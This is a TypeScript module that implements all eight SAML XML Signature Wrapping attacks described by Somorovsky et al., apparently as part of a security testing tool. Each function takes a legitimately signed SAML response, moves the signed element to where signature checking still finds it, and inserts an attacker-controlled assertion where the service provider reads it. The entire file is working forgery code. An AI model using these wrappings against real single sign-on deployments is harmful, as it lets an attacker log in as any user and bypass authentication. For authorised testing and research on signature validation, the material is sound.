// The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012). Each takes a response that a
// provider signed, moves what was signed to where the signature still finds it by its id, and puts an assertion of one's own where it is read.

type Parts = {
  /** The response without its assertion: before it, and after. */
  before: string
  after: string
  assertion: string
  /** The signature of the assertion, and the assertion without it. */
  signature: string
  unsigned: string
}

/** The forms by number; one and two wrap a signed response, the others a signed assertion. */
export const wrappings: Readonly<Record<number, (xml: string, evil: (xml: string) => string) => string>> = {
  // The forged response holds the original one within its signature, or before that.
  1: (xml, evil) => forgedResponse(xml, evil, (signature, original) => withObject(signature, original)),
  2: (xml, evil) => forgedResponse(xml, evil, (signature, original) => `${original}${signature}`),
  // The forged assertion stands before the original, around it, or in its place with the original within its signature.
  3: (xml, evil) => rebuilt(xml, ({ assertion, unsigned }) => `${evil(renamed(unsigned))}${assertion}`),
  4: (xml, evil) => rebuilt(xml, ({ assertion, unsigned }) => inside(evil(renamed(unsigned)), assertion)),
  5: (xml, evil) =>
    rebuilt(xml, ({ unsigned, signature }) => `${inside(evil(renamed(unsigned)), signature)}${unsigned}`),
  6: (xml, evil) =>
    rebuilt(xml, ({ unsigned, signature }) =>
      inside(evil(renamed(unsigned)), withObject(signature, unsigned)),
    ),
  // The forged assertion is in an extension, or the original in an object of the forged one's signature.
  7: (xml, evil) =>
    rebuilt(
      xml,
      ({ assertion, unsigned }) =>
        `<samlp:Extensions>${evil(renamed(unsigned))}</samlp:Extensions>${assertion}`,
    ),
  8: (xml, evil) =>
    rebuilt(xml, ({ unsigned, signature }) =>
      inside(evil(unsigned), withObject(signature, renamed(unsigned))),
    ),
}

function rebuilt(xml: string, make: (parts: Parts) => string): string {
  const parts = partsOf(xml)
  return `${parts.before}${make(parts)}${parts.after}`
}

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
  const signature = signatureIn(assertion)
  const [before = '', after = ''] = xml.split(assertion)
  return { before, after, assertion, signature, unsigned: assertion.replace(signature, '') }
}

function forgedResponse(
  xml: string,
  evil: (xml: string) => string,
  place: (signature: string, original: string) => string,
): string {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
  const signature = signatureIn(xml.replace(assertion, ''))
  const original = xml.replace(signature, '')
  const forged = renamed(evil(original))
  return forged.replace(/(<samlp:Response[^>]*>)/, (start) => `${start}${place(signature, original)}`)
}

function signatureIn(xml: string): string {
  const found = /<Signature[\s\S]*?<\/Signature>/.exec(xml)?.[0]
  if (!found) throw new Error(`nothing is signed in ${xml.slice(0, 300)}`)
  return found
}

function withObject(signature: string, content: string): string {
  return signature.replace('</Signature>', `<Object>${content}</Object></Signature>`)
}

function inside(assertion: string, content: string): string {
  return assertion.replace(/(<\/saml:Issuer>)/, (end) => `${end}${content}`)
}

/** The same under another id. */
function renamed(xml: string): string {
  return xml.replace(/ ID="([^"]*)"/, ' ID="$1-forged"')
}
